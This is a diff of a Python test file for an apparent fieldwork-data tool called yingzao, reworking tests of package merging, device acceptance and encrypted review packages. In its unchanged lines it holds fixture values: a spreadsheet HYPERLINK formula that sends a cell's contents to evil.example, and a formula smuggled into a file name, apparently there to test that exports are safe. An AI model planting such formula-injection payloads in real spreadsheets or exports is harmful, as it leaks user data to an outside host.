@@ -13,14 +13,14 @@ import pytest
 from yingzao.core import durable, errors
 from yingzao.core.errors import StoreError
 from yingzao.core.exchange import merge as merge_module
-from yingzao.core.exchange.merge import merge_package, merge_packages
+from yingzao.core.exchange.merge import accept_device, merge_package, merge_packages
 from yingzao.core.exchange.merge_report import save_report_xlsx, summary_lines
 from yingzao.core.exchange.package import pack_session
 from yingzao.core.exchange.review_package import pack_review
 from yingzao.core.review import decisions as review
 from yingzao.core.store.database import Store
 
-from tests.laptops import Laptop, canonical_dump, laptop_template  # noqa: F401  (fixture)
+from tests.laptops import Laptop, canonical_dump, join, laptop_template, make_project  # noqa: F401  (fixture)
 
 HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"点我")'
 FILE_NAME = "=SUM(1,2)&A1"  # what a file name can hold on every system
@@ -87,11 +87,11 @@ def test_a_second_connection_merging_the_same_package_meanwhile_gets_already_mer
 
     interleaved = []
 
-    def read_while_the_other_merges(path):
+    def read_while_the_other_merges(path, content=None):
         if not interleaved:  # the second has checked that the package is new; now the first merges it whole
             interleaved.append("first")
             interleaved.append(merge_package(first, path).status)
-        return real_read(path)
+        return real_read(path, content)
 
     monkeypatch.setattr(merge_module, "read_package", read_while_the_other_merges)
     line = merge_package(second, package)
@@ -110,17 +110,25 @@ def test_a_review_package_is_refused_on_a_laptop_that_did_not_take_its_interview
     make_laptop, master, tmp_path, english
 ):
     wang, li = make_laptop("wang", "王芳"), make_laptop("li", "李强")
+    project_file = make_project(master)
+    join(wang.store, project_file)
+    join(li.store, project_file)
     interview_id = wang.interview()
     wang.store.finalize(interview_id)
     li.interview()
     merge_packages(master, [wang.pack(tmp_path / "wang.yzpack"), li.pack(tmp_path / "li.yzpack")])
-    review.send_back(master, interview_id, "请补充", role="supervisor")
+    accept_device(master, wang.store.device_id)
+    accept_device(master, li.store.device_id)
+    review.send_back(master, interview_id, "请补充")
     pack_review(master, tmp_path / "back.yzpack")
-    for store in (li.store, master):  # another fieldworker's laptop; the supervisor's own master
-        before = canonical_dump(store)
-        line = merge_packages(store, [tmp_path / "back.yzpack"]).packages[0]
-        assert line.status == "refused" and f"interview {interview_id} was not taken on this database" in line.reason
-        assert canonical_dump(store) == before
+    before = canonical_dump(li.store)  # another fieldworker's laptop cannot even open it
+    line = merge_packages(li.store, [tmp_path / "back.yzpack"]).packages[0]
+    assert line.status == "refused" and "does not open with this project's key" in line.reason
+    assert canonical_dump(li.store) == before
+    before = canonical_dump(master)  # the supervisor's own master opens it, and refuses it
+    line = merge_packages(master, [tmp_path / "back.yzpack"]).packages[0]
+    assert line.status == "refused" and f"interview {interview_id} was not taken on this database" in line.reason
+    assert canonical_dump(master) == before
     assert merge_packages(wang.store, [tmp_path / "back.yzpack"]).packages[0].status == "merged"
     assert wang.store.interview(interview_id).status == "rejected"
 
